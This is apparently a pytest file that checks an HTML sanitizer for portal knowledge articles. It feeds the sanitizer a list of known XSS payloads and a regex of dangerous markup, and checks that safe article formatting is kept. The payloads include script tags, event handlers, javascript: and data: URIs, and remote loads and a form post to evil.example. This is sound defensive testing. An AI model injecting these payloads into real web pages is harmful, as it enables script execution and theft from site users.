"""The knowledge article sanitizer (issue 16) against known XSS payloads: none survives, the text does."""

from __future__ import annotations

import re

import pytest

from d365portal.web.sanitize import plain, sanitize

# From the OWASP XSS filter evasion cheat sheet and html5sec.org, the families the issue names.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=javascript:alert(1)>",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<body onload="alert(1)">x</body>',
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    '<details open ontoggle="alert(1)">x</details>',
    '<p onmouseover="alert(1)">x</p>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<base href="javascript:alert(1)//">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<video><source onerror="alert(1)"></video>',
    '<input autofocus onfocus="alert(1)">',
    '"><script>alert(1)</script>',
]
DANGER = re.compile(
    r"<\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|img|video|body)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:|expression\(|@import",
    re.I,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload: str) -> None:
    cleaned = sanitize(f"<p>Antes</p>{payload}<p>Después</p>").html
    assert not DANGER.search(cleaned), cleaned
    assert "<p>Antes</p>" in cleaned and "<p>Después</p>" in cleaned  # the article's text stays


def test_what_an_article_needs_stays() -> None:
    html = (
        "<h2>Título</h2><ol><li>Uno</li></ol><table><tr><th colspan=2>A</th></tr></table>"
        "<pre><code>cmd --flag</code></pre><blockquote>Cita</blockquote>"
        '<a href="mailto:soporte@inovait.co">correo</a>'
        '<a href="https://learn.microsoft.com/">docs</a>'
    )
    cleaned = sanitize(html, own_host="portal.test").html
    for kept in ("<h2>Título</h2>", "<ol><li>Uno</li></ol>", '<th colspan="2">A</th>',
                 "<pre><code>cmd --flag</code></pre>", "<blockquote>Cita</blockquote>",
                 'href="mailto:soporte@inovait.co"',
                 '<a class="external" href="https://learn.microsoft.com/" '
                 'rel="noopener noreferrer">docs</a>'):  # fmt: skip
        assert kept in cleaned, kept


def test_a_link_to_the_portal_itself_is_not_marked_external() -> None:
    cleaned = sanitize('<a href="https://portal.test/es-ES/">inicio</a>', own_host="portal.test").html
    assert 'class="external"' not in cleaned and 'rel="noopener noreferrer"' in cleaned


def test_images_and_embeds_are_reported_as_removed() -> None:
    assert sanitize('<p>x</p><img src="https://cdn.example/a.png">').media_removed
    assert sanitize("<p>x</p><iframe></iframe>").media_removed
    assert not sanitize("<p>x</p>").media_removed


def test_plain_text_for_excerpts() -> None:
    text = plain("<h2>VPN</h2><p>Abra&nbsp;el <b>cliente</b>.</p><script>x()</script>")
    assert text == "VPN Abra el cliente ."
